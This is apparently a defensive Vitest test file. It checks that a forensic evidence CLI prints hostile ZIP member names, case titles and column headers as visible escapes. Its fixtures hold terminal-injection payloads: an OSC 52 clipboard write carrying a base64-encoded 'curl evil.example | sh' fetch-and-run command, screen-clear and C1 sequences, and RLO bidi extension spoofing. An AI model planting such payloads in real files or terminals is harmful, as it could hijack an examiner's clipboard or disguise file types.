// Issue #14, attack 6: file names inside a ZIP (and case titles, cell values) that talk to the terminal.
// OSC 52 writes the examiner's clipboard, CSI 2J clears the screen, U+009B is a one-byte CSI on some
// terminals, U+202E makes `invoice<RLO>vsc.csv` read as `invoicecsv.csv`, and a newline in a name
// forges an extra line in a listing. Every CLI printing path must show them as visible escapes.
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import fs from 'node:fs';
import path from 'node:path';
import { sakshya, tempDir } from '../support/cli';
import { fixtureVault } from '../support/vault-fixture';
import { zipStored } from '../e2e/support/zip-writer';

const PASS = 'Attack six: terminal escapes in evidence names 2026';
const env = { SAKSHYA_PASSPHRASE: PASS };

const OSC52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const HOSTILE = [
  `${OSC52}people.csv`,
  '\u001b[2J\u001b[Hclear.csv',
  'invoice\u202evsc.csv',
  '\u009b31mred.csv',
  'two\nlines\tand tab.csv',
  'isolate\u2067xx\u2069 and LRM\u200e.csv',
];
const TITLE = 'Case \u001b]0;pwned\u0007 title \u202e';
const CELL = 'col \u001b[31mred\u001b[0m \u2066 name'; // a column header: printed by `rows`

// What must never reach a terminal raw: C0 except tab/newline, DEL, C1, bidi controls, LS/PS.
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/g;

let root: string;
let cleanup: () => void;
let vault: string;
let caseId: string;

beforeAll(async () => {
  ({ dir: root, cleanup } = tempDir());
  vault = path.join(root, 'v');
  await fixtureVault(vault, env.SAKSHYA_PASSPHRASE);
  caseId = (await sakshya(['case', 'new', '--vault', vault, '--title', TITLE], { env })).stdout.trim();
  const csv = (i: number) => Buffer.from(`status,${CELL}\nok${i},fine\n`);
  const zip = path.join(root, 'leak.zip');
  fs.writeFileSync(zip, zipStored(HOSTILE.map((name, i) => ({ name, data: csv(i) }))));
  const imp = await sakshya(['import', '--vault', vault, '--case', caseId, zip], { env });
  expect(imp.code).toBe(0);
}, 600_000);
afterAll(() => cleanup());

function rawCount(s: string): number {
  return (s.match(RAW) ?? []).length;
}

describe('attack 6: terminal escapes from evidence reach the CLI output only as visible escapes', () => {
  it('evidence list, custody log, case list, rows and errors print no raw control or bidi character', async () => {
    const list = await sakshya(['evidence', 'list', '--vault', vault, '--case', caseId], { env });
    expect(list.code).toBe(0);
    const ids = [...list.stdout.matchAll(/^(\S+)\t/gm)].map((m) => m[1]!);
    const child = ids.at(-1)!;
    const runs = [
      list,
      await sakshya(['custody', 'log', '--vault', vault, '--case', caseId], { env }),
      await sakshya(['case', 'list', '--vault', vault], { env }),
      await sakshya(['rows', '--vault', vault, '--case', caseId, '--evidence', child], { env }),
      await sakshya(['import', '--vault', vault, '--case', caseId, path.join(root, 'missing\u001b[2J\u202e.csv')], { env }),
      await sakshya(['scan', path.join(root, 'missing\u001b]52;c;eA==\u0007.csv')], { env }),
    ];
    let bytes = 0;
    let raw = 0;
    for (const r of runs) {
      bytes += Buffer.byteLength(r.stdout + r.stderr);
      raw += rawCount(r.stdout) + rawCount(r.stderr);
      expect(rawCount(r.stdout), r.stdout).toBe(0);
      expect(rawCount(r.stderr), r.stderr).toBe(0);
    }
    // The names are still there, readable, with the hostile characters spelled out.
    expect(list.stdout).toContain('\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007people.csv');
    expect(list.stdout).toContain('invoice\\u202evsc.csv');
    expect(list.stdout).toContain('\\u009b31mred.csv');
    // A newline or tab in a name cannot add a line or a column to the listing.
    expect(list.stdout).toContain('two\\u000alines\\u0009and tab.csv');
    const lines = list.stdout.trimEnd().split('\n');
    expect(lines).toHaveLength(HOSTILE.length + 1); // the ZIP and its six members
    for (const l of lines) expect(l.split('\t')).toHaveLength(7);
    expect(runs[2]!.stdout).toContain('Case \\u001b]0;pwned\\u0007 title \\u202e');
    expect(runs[3]!.stdout).toContain('col \\u001b[31mred\\u001b[0m \\u2066 name');
    console.log(`attack 6 (terminal): ${HOSTILE.length} hostile ZIP member names + case title + column header, 6 commands, ${bytes} bytes of output, ${raw} raw control/bidi characters`);
  }, 600_000);

  it('--json output stays valid JSON that parses back to the exact names, with bidi and C1 escaped too', async () => {
    const r = await sakshya(['evidence', 'list', '--vault', vault, '--case', caseId, '--json'], { env });
    expect(r.code).toBe(0);
    expect(rawCount(r.stdout)).toBe(0);
    const names = (JSON.parse(r.stdout) as { name: string }[]).map((e) => e.name);
    for (const h of HOSTILE) expect(names.some((n) => n.endsWith(h))).toBe(true);
    const log = await sakshya(['custody', 'log', '--vault', vault, '--case', caseId, '--json'], { env });
    expect(rawCount(log.stdout)).toBe(0);
    expect(JSON.stringify(JSON.parse(log.stdout))).toContain('invoice\u202evsc.csv');
  }, 600_000);
});
